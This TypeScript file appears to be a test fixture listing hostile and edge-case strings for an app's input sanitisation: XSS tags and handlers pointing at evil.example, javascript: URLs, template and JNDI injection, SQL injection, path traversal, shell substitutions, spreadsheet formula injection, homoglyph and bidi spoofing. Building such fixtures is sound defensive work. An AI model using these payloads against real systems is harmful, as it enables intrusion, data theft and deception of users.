/** What a hostile customer, a broken network or a careless typist may leave in any field. */

const call = (id: string) => `globalThis.__ran=(globalThis.__ran||[]).concat('${id}')`;
const far = "http://evil.example/x";

const handlers = [
  "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "oninput", "onchange", "onpointerenter", "onanimationstart", "ontransitionend", "ontoggle", "onwheel", "onkeydown", "onbegin", "onpageshow",
].map((on) => `<img src=x ${on}="${call(on)}">`);

const elements = [
  `<script>${call("script")}</script>`, `<SCRIPT SRC=${far}></SCRIPT>`, `</script><script>${call("closed")}</script>`, `<scr<script>ipt>${call("nested")}</scr</script>ipt>`,
  `<script type=module>import "${far}"</script>`, `<script src=//evil.example></script>`, `<svg onload=${call("svg")}>`, `<svg><script>${call("svgscript")}</script></svg>`,
  `<svg><animate onbegin="${call("animate")}" attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=1>#x"/></svg>`, `<svg><foreignObject><iframe src=${far}>`, `<math><mi xlink:href="javascript:${call("math")}">x</mi></math>`,
  `<iframe src="javascript:${call("iframe")}"></iframe>`, `<iframe srcdoc="<script>${call("srcdoc")}</script>"></iframe>`, `<object data="${far}"></object>`, `<embed src="${far}">`, `<link rel=stylesheet href="${far}">`,
  `<link rel=dns-prefetch href="//evil.example">`, `<meta http-equiv=refresh content="0;url=${far}">`, `<base href="${far}">`, `<form action="${far}"><input name=q><button>Sign in</button></form>`, `<input autofocus onfocus="${call("autofocus")}">`,
  `<button formaction="javascript:${call("formaction")}">x</button>`, `<isindex action="${far}">`, `<video src="${far}" onerror="${call("video")}"></video>`, `<audio src="${far}" autoplay></audio>`, `<video poster="${far}">`, `<source src="${far}">`,
  `<details open ontoggle="${call("details")}">x</details>`, `<marquee onstart="${call("marquee")}">x</marquee>`, `<body onload="${call("body")}">`, `<html onmouseover=1>`, `<style>@import "${far}"</style>`, `<style>*{background:url(${far})}</style>`,
  `<table background="${far}">`, `<template><img src=${far}></template>`, `<noscript><p title="</noscript><img src=x onerror=${call("noscript")}>">`, `<dialog open>You are signed out</dialog>`, `<a href="javascript:${call("a")}">Maria</a>`, `<a href="${far}" target=_blank>Maria</a>`,
  `<a href="data:text/html,<script>1</script>">x</a>`, `<img src="${far}">`, `<img srcset="${far} 1x">`, `<picture><source srcset="${far}"></picture>`, `<canvas>`, `<slot name=x>`, `<x-foo>`, `<!-- -->`, `<![CDATA[<img src=x>]]>`, `<?xml version="1.0"?>`, `<!DOCTYPE html>`,
];

const broken = [
  `"><img src=x onerror="${call("quote")}">`, `'><img src=x onerror='${call("single")}'>`, "`><img src=x onerror=1>", `" onmouseover="${call("attribute")}" x="`, `' autofocus onfocus='${call("focus")}`, `--><script>${call("comment")}</script>`, `]]><script>${call("cdata")}</script>`,
  `</title><script>1</script>`, `</textarea><script>1</script>`, `</style><script>1</script>`, `</td></tr></table><h1>x</h1>`, `</li></ul></main>`, `</button></dialog>`, `<`, `>`, `"`, `'`, `&`, `&amp;`, `&lt;b&gt;`, `&#x3c;script&#x3e;`, `&nbsp;&shy;&zwj;`, `%3Cscript%3E`, `\\u003cscript\\u003e`, `\\x3cimg`,
];

const addresses = [
  `javascript:${call("url")}`, `JaVaScRiPt:${call("case")}`, `java\tscript:alert(1)`, `vbscript:msgbox(1)`, `data:text/html;base64,PHNjcmlwdD4=`, `file:///etc/passwd`, `//evil.example/x`, far, `https://evil.example@dealer.example/`, `tauri://localhost/`, `ipc://localhost/boot`, `asset://localhost/etc/passwd`, `tel:+351912344417`, `mailto:x@evil.example?bcc=all`, `sms:1234`, `about:blank`, `blob:null/1`, `www.evil.example`, `\\\\evil.example\\share`,
];

const templates = [
  `{{constructor.constructor('${"1"}')()}}`, `{{7*7}}`, `\${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{@html "<b>x</b>"}`, `{#if true}x{/if}`, `{name}`, `{count}`, `{id}`, `{text} {field}`, `$&`, "$1 $` $'", `$$`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`, `[object Object]`, `undefined`, `null`, `NaN`, `true`, `0`, `-1`, `1e309`, `%s%s%n`, `%00`, `\${jndi:ldap://evil.example/a}`, `' OR '1'='1`, `'; DROP TABLE customers;--`, `../../etc/passwd`, `$(id)`, "`id`", `| cat`,
];

const styles = [`expression(1)`, `background:url(${far})`, `;position:fixed;inset:0`, `"style="position:fixed;inset:0`, `}*{display:none}`, `\\3c script`, `url(javascript:1)`, `--x:red`, `font-size:9999px`];

const spreadsheets = [`=cmd|' /C calc'!A0`, `+cmd|'/C calc'!A0`, `-2+3+cmd|'/C calc'!A0`, `@SUM(1+1)*cmd`, `=HYPERLINK("${far}")`, `\t=1+1`, `\r=1+1`, `"=1+1"`, `;=1`, `|x`];

const hidden = [
  "\u202eaíraM", "Maria\u202e", "\u202aMaria", "\u202bMaria", "\u202dMaria", "Maria\u202c", "\u2066Maria", "\u2067Maria", "\u2068Maria", "Maria\u2069", "\u2069\u2069\u202eMaria", "Ma\u200bria", "Ma\u200cria", "Ma\u200dria", "Ma\ufeffria", "Ma\u00adria", "Ma\u2060ria", "\u200eMaria", "\u200fMaria", "\u061cMaria", "\u180eMaria", "\u3164", "\u115f\u1160", "Ma\u034fria", "\u{e0001}Maria\u{e0061}", "\ufff9a\ufffab\ufffb", "Maria\u2028Sousa", "Maria\u2029Sousa", "\u0000Maria", "Ma\u0000ria", "\u0007", "\u001b[31mred", "\u0008\u0008\u0008", "\u007f", "\u0085", "\u009b31m", "Maria\nSousa", "Maria\r\nIn DMS", "a\tb", "\ufffe\uffff", "\ud800", "\udc00", "photo\u202egpj.exe",
];

const scripts = [
  "مريم السوسي", "محمد (Maria)", "שרה כהן", "שרה 12 כהן", "Maria مريم", "ܡܪܝܡ", "ދިވެހި", "مريم: 123!", "Мария", "Маriа", "Μαρία", "Mаria", "раypal@example.com", "αdmin@example.com", "佐藤花子", "김민수", "Nguyễn Thị Ngọc", "ชื่อจริง", "मरियम", "Łódź Ångström ß æ ø", "ﬁ ﬂ ﷺ", "𝕸𝖆𝖗𝖎𝖆", "Ｍａｒｉａ", "M\u0301\u0302a", "I\u0307stanbul", "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇵🇹", "❤️", "می‌خواهم",
];

const large = [
  "W".repeat(10_000), "Maria ".repeat(170), "\u202e".repeat(500), "Z" + "\u0335\u0336\u0337\u0338\u0340\u0341".repeat(100), "e" + "\u0301".repeat(500), "👩‍👩‍👧‍👦".repeat(60), "مريم ".repeat(100), "<b>".repeat(200), " ".repeat(500) + "x", "\u00a0".repeat(200) + "x", "-".repeat(900), "&".repeat(900), "﷽".repeat(90),
];

export const payloads: readonly string[] = [...new Set([...handlers, ...elements, ...broken, ...addresses, ...templates, ...styles, ...spreadsheets, ...hidden, ...scripts, ...large])];
